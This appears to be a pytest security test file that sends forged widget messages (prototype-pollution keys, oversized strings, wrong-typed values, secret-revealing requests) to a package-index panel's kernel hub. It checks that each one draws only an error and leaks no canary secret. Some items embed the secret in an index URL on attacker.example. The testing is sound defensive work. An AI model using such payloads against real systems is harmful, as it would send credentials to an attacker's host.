"""Forged widget messages: what a browser could send to a panel if somebody else had its line to the kernel."""

from __future__ import annotations

import threading
from typing import TYPE_CHECKING, Any, Final

import pytest

from altindex_magic.panel.hub import Hub
from tests.attacks.stage import PRIVATE, SECRET
from tests.canary import Canary

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

_PATIENCE: Final = 120.0
_LONG: Final = "a" * 5_000_000
_USE: Final = {"request": "Use", "body": {"names": ["local"]}}
FORGED: Final = {
    "unknown request": [
        *(
            {"request": name, "body": {}}
            for name in ("Reveal", "__class__", "constructor", "Panel", "Help", "", None, 7)
        ),
        {"body": {"names": ["local"]}},
        {"line": "reveal private"},
        {"line": "panel"},
        {"line": "-h"},
    ],
    "values of the wrong type": [
        *(
            {"request": "Use", "body": body}
            for body in (None, [], "local", 1, {"names": "local"}, {"names": [["local"]]})
        ),
        {"request": "Use", "body": {"names": ["local"], "strict": "yes"}},
        {"request": "Use", "body": {"names": {"0": "local", "length": 1}}},
        {"request": ["Use"], "body": {"names": ["local"]}},
        {"line": ["use", "local"]},
        {"login": ["private"], "secret": "x"},
        {"login": {"name": "private"}, "secret": {"toString": "x"}},
        {"try": "local"},
    ],
    "texts of five megabytes": [
        {"request": "Use", "body": {"names": [_LONG]}},
        {"request": "Use", "body": {"names": ["local"] * 1_000_000}},
        {"request": _LONG, "body": {}},
        {"request": "Use", "body": {_LONG: 1}},
        {"line": f"use {_LONG}"},
        {"line": "use " + "'" * 5_000_001},
        {"login": {"name": "private"}, "secret": _LONG},
    ],
    "keys of a prototype": [
        {"request": "Use", "body": {"names": ["local"], "__proto__": {"strict": True}}},
        {"request": "Use", "body": {"names": ["local"], "constructor": {"prototype": {"polluted": True}}}},
        {"__proto__": _USE, "constructor": _USE},
        {"request": "__proto__", "body": {"names": ["local"]}},
        {"request": "Use", "body": {"names": ["__proto__"]}},
    ],
    "questions for the value of a secret": [
        {"request": "Login", "body": {"name": "private", "reveal": True}},
        {"request": "Login", "body": {"name": "private", "env": "PRIVATE_TOKEN", "show": True}},
        {"request": "Add", "body": {"name": "echo", "url": f"https://victim:{SECRET}@attacker.example/simple/"}},
        {"line": "login private --reveal"},
        {"line": f"install {PRIVATE} --index-url https://victim:{SECRET}@attacker.example/simple/"},
        {"secret": "", "request": "Secret", "body": {"name": "private"}},
    ],
}
"""Nothing of it can be done: to each there is one answer, an error."""
ASKING: Final = [
    *({"request": name, "body": {}} for name in ("ShowStatus", "ListIndexes", "ListPresets", "Doctor")),
    *({"request": "Export", "body": {"format": form, "dry_run": True}} for form in ("pip", "pypirc", "uv", "netrc")),
    {"request": "Test", "body": {"names": ["private"]}},
    {"request": "ListVersions", "body": {"project": PRIVATE}},
    {"request": "Explain", "body": {"project": PRIVATE}},
    {"try": {"name": "other", "url": "https://attacker.invalid/simple/"}, "secret": ""},
    {"hello": True},
]
"""What may be asked, or what is refused in passing: all that is ever told of an index and its credential."""


class Browser:
    """The end of the line that an attacker has: it keeps all that the kernel says."""

    def __init__(self, hub: Hub) -> None:
        self.told: list[dict[str, Any]] = []
        self._hub = hub
        self._new = threading.Condition()

    def tell(self, message: dict[str, Any]) -> None:
        with self._new:
            self.told.append(message)
            self._new.notify_all()

    def ask(self, call: str, message: dict[str, Any]) -> dict[str, Any]:
        """Send a message and give what ends its answer."""
        self._hub.receive(self, {"call": call, **message})
        with self._new:
            assert self._new.wait_for(lambda: self._end(call), _PATIENCE), f"no answer to {str(message)[:200]}"
            return self._end(call) or {}

    def _end(self, call: str) -> dict[str, Any] | None:
        ends = {"error", "done", "hello"}
        return next((each for each in self.told if each.get("call") == call and not ends.isdisjoint(each)), None)


@pytest.fixture
def browser(stage) -> Iterator[Browser]:
    """Give a line to the victim's panel, with a private index in use."""
    stage.open()
    hub = Hub(stage.service)
    browser = Browser(hub)
    browser.ask("hello", {"hello": True})
    browser.told.clear()
    yield browser
    hub.close()


def state(folder: Path, environ: dict[str, str]) -> tuple[dict[str, bytes], dict[str, str]]:
    """Give what the victim has configured, and the environment of the kernel."""
    files = (folder / "config").rglob("*")
    return {str(file): file.read_bytes() for file in files if file.is_file()}, dict(environ)


@pytest.mark.parametrize("kind", FORGED)
def test_a_forged_message(stage, browser, kind):
    """One short error answers it, and nothing is done."""
    before = state(stage.folder, stage.environ)
    ends = [browser.ask(str(number), message) for number, message in enumerate(FORGED[kind])]
    wrong = [end for end in ends if "error" not in end or len(str(end)) > 2000 or not end["error"]["remedy"]]
    told = Canary(SECRET).dress_in(str(browser.told))
    done = state(stage.folder, stage.environ) != before
    stage.record(f"widget message with {kind}", {}, bool(wrong or told) or done)


def test_what_is_no_message(stage, browser):
    """It is passed over: an answer needs a name to call it by."""
    before = state(stage.folder, stage.environ)
    for message in (
        None,
        [],
        "use local",
        7,
        _USE,
        {"call": 7, **_USE},
        {"call": _LONG, **_USE},
        {"call": None, **_USE},
    ):
        browser._hub.receive(browser, message)
    browser.ask("alive", {"ping": True})
    answered = [message for message in browser.told if "call" in message and message["call"] != "alive"]
    stage.record("widget message that is none", {}, bool(answered) or state(stage.folder, stage.environ) != before)


def test_a_secret_in_what_a_panel_is_told(stage, browser):
    """Whatever may be asked about an index, its secret is not in the answer."""
    for number, message in enumerate(ASKING):
        browser.ask(str(number), message)
    assert len(browser.told) > len(ASKING)
    stage.record("secret in the answers to a panel", {}, bool(Canary(SECRET).dress_in(str(browser.told))))
